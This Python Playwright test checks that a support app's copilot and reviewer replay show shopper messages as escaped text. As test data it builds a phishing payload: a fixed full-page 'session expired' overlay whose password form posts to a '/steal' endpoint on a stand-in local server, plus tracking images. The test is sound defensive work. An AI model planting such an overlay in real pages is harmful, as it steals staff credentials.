"""Shopper text is text on the staff page, in a real browser: a shopper plants a full-page ``position:fixed``
"session expired" overlay with a password form posting to another host, a Markdown image and an ``<img>``
pointing at a second local HTTP server; an agent opens the conversation in the copilot and a reviewer replays
the turn. Both see the literal characters, the DOM holds no form, password field, image or fixed overlay from
the message, and no request leaves for a host the page did not come from (the second server counts 0 hits).

This checks the escaping itself, whatever Content-Security-Policy the server sends.
"""

from __future__ import annotations

import re
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest
from playwright.sync_api import expect

from tests.browser.conftest import App, shot, sign_in

pytestmark = [pytest.mark.integration, pytest.mark.model, pytest.mark.browser]

SHOPPER = "C008"


class Elsewhere:
    """A second HTTP server on another port: the "other host" the planted message points at; counts requests."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        hits = self.hits

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
                hits.append(f"GET {self.path}")
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.end_headers()

            def do_POST(self) -> None:  # noqa: N802
                hits.append(f"POST {self.path}")
                self.send_response(200)
                self.end_headers()

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.base = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[Elsewhere]:
    other = Elsewhere()
    other.thread.start()
    try:
        yield other
    finally:
        other.server.shutdown()
        other.server.server_close()


def plant(base: str) -> str:
    return (f'<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;'
            f'background:#fff">Your session expired. Sign in again to continue.'
            f'<form action="{base}/steal" method="post"><input name="username">'
            f'<input type="password" name="password"><button type="submit">Sign in</button></form></div>\n'
            f"![logo]({base}/md.png)\n"
            f'<img src="{base}/img.png">\n'
            "I want to talk to a real person please")


@pytest.fixture(scope="module")
def planted(app: App, elsewhere: Elsewhere) -> str:
    """The shopper's message, sent through the shopper API (a real turn, stored as shoppers' turns are)."""
    message = plant(elsewhere.base)
    response = httpx.post(f"{app.url}/api/v1/chat", json={"message": message},
                          headers={"Authorization": f"Bearer {app.shopper_token(SHOPPER)}"}, timeout=300)
    assert response.status_code == 200, response.text
    return message


def watch_requests(page: Any) -> list[str]:
    seen: list[str] = []
    page.on("request", lambda request: seen.append(request.url))
    return seen


def assert_nothing_from_the_message(page: Any, app: App, elsewhere: Elsewhere, seen: list[str]) -> None:
    """No form, password field, image or fixed overlay from the message; no request to another host."""
    other = urlsplit(elsewhere.base).netloc
    assert page.locator("input[type=password]").count() == 0
    actions = page.evaluate("[...document.forms].map(f => f.getAttribute('action') || '')")
    assert all(a.startswith("/") and not a.startswith("//") for a in actions), actions  # only the sign-out form
    assert page.locator(f"img[src*='{other}'], [src*='{other}'], [href*='{other}'], "
                        f"[action*='{other}']").count() == 0
    overlays = page.evaluate("""[...document.querySelectorAll('*')].filter(e => {
        const s = getComputedStyle(e), r = e.getBoundingClientRect();
        return s.position === 'fixed' && r.width * r.height > 0.3 * innerWidth * innerHeight;
    }).map(e => e.outerHTML.slice(0, 200))""")
    assert overlays == [], overlays
    time.sleep(2)  # anything lazily loaded would have been asked for by now
    app_host = urlsplit(app.url).netloc
    foreign = [u for u in seen if urlsplit(u).scheme not in ("data", "blob") and urlsplit(u).netloc != app_host]
    assert foreign == [], foreign
    assert elsewhere.hits == [], elsewhere.hits


def test_the_agent_sees_the_planted_overlay_as_text_in_the_copilot(page: Any, app: App, elsewhere: Elsewhere,
                                                                     planted: str) -> None:
    seen = watch_requests(page)
    sign_in(page, app, "agent")
    page.locator("#copilot-refresh").click()
    choose = page.locator("#copilot-choose input")
    expect(choose).not_to_have_value("")  # expect(), not wait_for_function: a CSP may forbid evaluating strings
    if SHOPPER not in choose.input_value():
        choose.click()
        page.get_by_role("option", name=re.compile(SHOPPER)).first.click()
    page.locator("#copilot-open").click()
    page.locator("#copilot-profile").get_by_text(SHOPPER).wait_for()
    conversation = page.locator("#copilot-conversation")
    conversation.get_by_text("Your session expired").wait_for()

    shown = conversation.inner_text()
    assert f'<form action="{elsewhere.base}/steal" method="post">' in shown
    assert '<input type="password" name="password">' in shown
    assert f"![logo]({elsewhere.base}/md.png)" in shown and f'<img src="{elsewhere.base}/img.png">' in shown
    assert "<form" in page.locator("#copilot-profile").inner_text()  # the hand-over summary quotes it
    assert '<div style="position:fixed' in page.locator("#copilot-queue").inner_text()  # its one-line summary
    shot(page, "agent-planted-text")
    assert_nothing_from_the_message(page, app, elsewhere, seen)


def test_the_reviewer_sees_the_planted_overlay_as_text_in_the_replay(page: Any, app: App, elsewhere: Elsewhere,
                                                                      planted: str) -> None:
    seen = watch_requests(page)
    sign_in(page, app, "reviewer")
    page.get_by_role("tab", name="Log review").click()
    page.locator("#review-customer input, #review-customer textarea").first.fill(SHOPPER)
    page.locator("#review-text input, #review-text textarea").first.fill("session expired")
    page.locator("#review-search").click()
    page.locator("#review-found").get_by_text("turns match").wait_for()
    assert "Your session expired" in page.locator("#review-turns").inner_text()  # the message column
    page.locator("#review-open").click()
    replay = page.locator("#review-replay")
    replay.get_by_text("Shopper:").wait_for()

    shown = replay.inner_text()
    assert f'<form action="{elsewhere.base}/steal" method="post">' in shown
    assert f"![logo]({elsewhere.base}/md.png)" in shown and f'<img src="{elsewhere.base}/img.png">' in shown
    shot(page, "reviewer-planted-text")
    assert_nothing_from_the_message(page, app, elsewhere, seen)
